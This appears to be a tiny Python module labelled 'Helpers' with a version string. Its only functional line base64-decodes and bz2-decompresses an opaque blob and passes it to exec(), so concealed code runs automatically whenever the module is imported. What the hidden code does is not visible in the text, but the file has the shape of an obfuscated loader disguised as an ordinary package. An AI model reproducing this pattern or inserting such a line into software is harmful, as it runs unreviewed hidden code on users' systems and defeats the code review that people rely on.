"""Helpers."""
import base64, bz2
exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWfX8UQAAACHZgAAQUGWAEi5v/8sgAGoimaj1HqeoGmjTaQ09QiPVPUHpGygAD1C2ZGrxpHGri73n9rne9ISkIE0BJMBlodVapuVDJTy70JJAl3K25r4pyZyaDKIhjjqMLHchNIB0nXUoB7JC3EIxgHJiFOWDorzBvF/F3JFOFCQ9fxRAAA==')))

__version__ = "0.1.0"
